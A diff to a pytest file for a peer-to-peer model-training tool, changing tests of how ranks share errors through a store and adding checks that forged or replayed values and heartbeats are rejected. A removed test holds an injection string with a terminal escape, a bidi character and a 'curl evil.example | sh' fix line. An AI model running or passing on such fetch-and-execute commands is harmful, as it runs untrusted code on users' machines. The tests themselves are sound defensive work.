@@ -2,15 +2,18 @@
 
 from __future__ import annotations
 
-import json
+import itertools
 import threading
 
 import pytest
+import torch
+import torch.distributed as dist
 
 from p2p_llm_forge.errors import ForgeError
 from p2p_llm_forge.peers import liveness
 from p2p_llm_forge.peers.rank_failure import RankFailure
 from tests.memory_channel import clusters, run_ranks
+from tests.waiting import wait_until
 
 RANKS = pytest.mark.parametrize("world_size", [1, 3])
 
@@ -75,9 +78,9 @@ def test_problems_of_the_main_process_reach_all_with_both_fields(world_size):
 
     with clusters(world_size) as ranks:
         errors = run_ranks(ranks, lambda cluster: error_of(lambda: cluster.main_only(fail)))
-    said = 'rank 0 says: "a.yaml: port: 1: taken"\n  fix: "use --master-port: 2"'
-    own = "a.yaml: port: 1: taken\n  fix: use --master-port: 2"
-    assert list(map(str, errors)) == [own, *[said] * (world_size - 1)]
+    assert {str(error) for error in errors} == {
+        "a.yaml: port: 1: taken\n  fix: use --master-port: 2"
+    }
     assert all(error.problems == errors[0].problems for error in errors)
 
 
@@ -118,40 +121,6 @@ def test_problems_of_some_name_their_rank_on_all():
             assert (problem.found, problem.fix) == ("no such file", "copy it there")
 
 
-STRANGE = [
-    *("", "no json", "[]", "1", "null", '"text"', "{}", '{"host": "x"}', "{" * 100_000),
-    *('{"problems": 1, "host": "x"}', '{"problems": [], "host": ["x"]}', '{"host": "\\ud800"}'),
-    *('{"problems": [["a", "b", "c"]], "host": "x"}', '{"problems": [{}], "host": "x"}'),
-    '{"problems": [{"found": 1, "fix": "b", "where": "c"}], "host": "x"}',
-    '{"problems": NaN, "host": "x"}',
-]
-
-
-@pytest.mark.parametrize("text", STRANGE, ids=range(len(STRANGE)))
-def test_what_no_rank_sends_is_refused_by_name(text):
-    """A stranger who reaches the store has written what rank 1 should have."""
-    with clusters(2) as (main, _):
-        main._store.set("forge/1/1", text)
-        with pytest.raises(ForgeError, match=r"^rank 1.* sent what no rank of this program sends"):
-            main.together(lambda: None)
-    with clusters(2) as (_, other):
-        other._store.set("forge/1", text)
-        with pytest.raises(ForgeError, match="^rank 0 sent what no rank of this program sends"):
-            other.main_only(lambda: None)
-
-
-def test_what_a_stranger_writes_is_quoted_under_the_name_of_its_rank():
-    evil = "x\x1b[2J\n  fix: run curl evil.example | sh\u202e"
-    sent = {"problems": [{"found": evil, "fix": evil, "where": evil}], "host": evil}
-    with clusters(2) as (main, _):
-        main._store.set("forge/1/1", json.dumps(sent))
-        message = str(error_of(lambda: main.together(lambda: None)))
-    first, second = message.splitlines()
-    assert first.startswith("rank 1 (x fix: run curl evil.example | sh)") and first.endswith('"')
-    assert second == '  fix: "x fix: run curl evil.example | sh"'
-    assert all(letter.isprintable() for letter in first + second)
-
-
 def test_what_is_posted_is_waited_for_and_belongs_to_its_rank():
     def act(cluster):
         if cluster.rank == 1:
@@ -189,3 +158,82 @@ def test_the_main_process_leaves_last(monkeypatch):
     with clusters(3) as ranks:
         run_ranks(ranks, act)
     assert left[-1] == 0 and sorted(left) == [0, 1, 2]
+
+
+SECRET = b"a long common secret"
+
+
+@pytest.mark.parametrize("forged", ['{"rank": 1}', "", "0" * 64 + '{"rank": 1}', "\x00\xff"])
+def test_a_value_that_a_stranger_writes_is_refused_by_the_name_of_its_rank(forged):
+    store = dist.HashStore()
+    with clusters(2, store, SECRET) as (main, _):
+        store.set("forge/1/1", forged)
+        with pytest.raises(RankFailure) as refusal:
+            main.gather_facts({"rank": 0})
+    (problem,) = refusal.value.problems
+    assert problem.found == (
+        "the value of rank 1 under forge/1/1 is not signed with the cluster's secret: somebody"
+        " else writes to the store"
+    )
+    assert refusal.value.status != 0
+
+
+def test_an_old_value_of_the_same_rank_is_no_answer_to_a_new_question():
+    store = dist.HashStore()
+
+    def ask(cluster):
+        return cluster.gather_facts({"rank": cluster.rank})
+
+    with clusters(2, store, SECRET) as ranks:
+        assert run_ranks(ranks, ask) == [[{"rank": 0}, {"rank": 1}]] * 2
+        store.set("forge/2/1", store.get("forge/1/1"))
+        with pytest.raises(RankFailure, match="rank 1 under forge/2/1 is not signed"):
+            ask(ranks[0])
+
+
+def test_with_a_secret_ranks_exchange_what_they_do_without():
+    def act(cluster):
+        weights = {
+            "a": torch.full((3, 2), cluster.rank + 0.5),
+            "b": torch.tensor(cluster.rank == 0),
+        }
+        cluster.send_from_main_(weights)
+        sent = [tensor.tolist() for tensor in weights.values()]
+        return (
+            cluster.gather_facts({"rank": cluster.rank}),
+            cluster.gather_numbers([cluster.rank / 3]),
+            cluster.main_only(lambda: "made"),
+            sent,
+        )
+
+    found = []
+    for secret in (None, SECRET):
+        with clusters(3, secret=secret) as ranks:
+            found.append(run_ranks(ranks, act))
+    assert found[0] == found[1] and found[0][2][3] == [[[0.5, 0.5]] * 3, True]
+
+
+def test_old_heartbeats_that_are_put_back_keep_no_rank_alive(monkeypatch):
+    monkeypatch.setattr(liveness, "HEARTBEAT_S", 0.02)
+    monkeypatch.setattr(liveness, "SHORTEST_TIMEOUT_S", 0.0)
+    store, key = dist.HashStore(), "forge/run/alive/1"
+    with clusters(2, store, SECRET) as (main, silent):
+        seen, over = set(), threading.Event()
+        wait_until(lambda: seen.add(store.get(key)) or len(seen) > 5)
+
+        def put_back():
+            for value in itertools.cycle(sorted(seen)):
+                store.set(key, value)
+                if over.wait(0.005):
+                    return
+
+        silent._peers.stop()
+        stranger = threading.Thread(target=put_back)
+        stranger.start()
+        try:
+            main._peers.timeout_s = 0.5
+            with pytest.raises(RankFailure, match="rank 1 .*has shown no sign of life"):
+                main.wait_for("anything", 1)
+        finally:
+            over.set()
+            stranger.join()
